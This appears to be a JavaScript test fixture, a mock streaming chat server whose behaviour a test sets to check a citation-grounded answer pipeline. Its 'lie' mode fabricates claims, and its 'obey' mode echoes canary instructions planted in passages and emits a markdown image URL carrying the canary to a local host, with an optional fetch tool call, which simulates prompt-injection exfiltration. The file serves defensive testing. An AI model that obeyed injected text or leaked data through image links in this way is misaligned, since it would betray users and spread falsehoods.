// A chat server that does what a test tells it: it quotes, lies, obeys every instruction that it reads, stalls or breaks. A process of its own.
// `POST /control` sets its behaviour, `GET /seen` tells what it saw. Prints its port on the first line.
import { createServer } from "node:http";

const quiet = { says: "quote", status: 200, hasSchema: true, hang: false, pieceMs: 0, cut: false, text: null, tool: false };
let behaviour = quiet;
const seen = { requests: [], open: 0, openMax: 0, left: 0, lastLeftAt: 0 };

const firstSentence = (text) => /[^.!?\n]+[.!?]/.exec(text)?.[0].trim() ?? text;

/** What each kind of generator says of the passages that it is shown. */
const kinds = {
  quote: ({ passages }) => passages.map(({ chunk, text }) => ({ text: firstSentence(text), citations: [{ chunk, quote: firstSentence(text) }] })),
  lie: ({ passages }) => passages.map(({ chunk, text }) => ({ text: `${firstSentence(text).replace(/[.!?]$/, "")} and 987 zebras.`, citations: [{ chunk, quote: firstSentence(text) }] })),
  half: (asked) => kinds.quote(asked).flatMap((sentence, i) => (i === 0 ? [sentence, ...kinds.lie(asked).slice(0, 1)] : [])),
  nothing: () => [],
  // Says every word of every passage that looks like a canary, alone, within the sentence that asks for it, and inside a true one.
  obey: ({ passages }) => passages.flatMap(({ chunk, text }) => [...text.matchAll(/CANARY\d+/g)].flatMap(({ 0: canary }) => {
    const asking = text.split(/(?<=[.!?\n])\s+/).find((sentence) => sentence.includes(canary)) ?? canary;
    const cite = (quote) => [{ chunk, quote }];
    return [canary, asking, `${firstSentence(text).replace(/[.!?]$/, "")} ${canary}.`, `The answer is ${canary}.`, `![x](http://127.0.0.1:9/${canary})`].map((said) => ({ text: said, citations: cite(asking) }));
  })),
};

const server = createServer(async (request, response) => {
  let text = "";
  for await (const piece of request) text += piece;
  if (request.url === "/control") {
    behaviour = { ...quiet, ...JSON.parse(text) };
    return response.end("{}");
  }
  if (request.url === "/seen") return response.end(JSON.stringify(seen));
  seen.requests.push({ path: request.url, headers: request.headers, body: text });
  seen.openMax = Math.max(seen.openMax, ++seen.open);
  response.once("close", () => {
    seen.open--;
    if (response.writableFinished) return;
    seen.left++;
    seen.lastLeftAt = Date.now();
  });
  const { says, status, hasSchema, hang, pieceMs, cut, tool, text: fixed } = behaviour;
  if (hang) return;
  const asked = JSON.parse(text);
  if (status !== 200 || (!hasSchema && asked.response_format)) return response.writeHead(status === 200 ? 400 : status, { "content-type": "application/json" }).end('{"error":{"message":"refused"}}');
  const whole = fixed ?? JSON.stringify({ sentences: kinds[says](JSON.parse(asked.messages.at(-1).content)) });
  response.writeHead(200, { "content-type": "text/event-stream" });
  const event = (delta) => response.write(`data: ${JSON.stringify({ choices: [{ index: 0, delta }] })}\n\n`);
  if (tool) event({ tool_calls: [{ index: 0, id: "a", function: { name: "fetch", arguments: '{"url":"http://127.0.0.1:9/"}' } }] });
  for (let at = 0; at < whole.length; at += 17) {
    if (response.destroyed) return;
    if (cut && at > whole.length / 2) return response.destroy();
    event({ content: whole.slice(at, at + 17) });
    if (pieceMs > 0) await new Promise((resolve) => setTimeout(resolve, pieceMs));
  }
  response.end("data: [DONE]\n\n");
});

server.listen(Number(process.argv[2] ?? 0), "127.0.0.1", () => console.log(server.address().port));
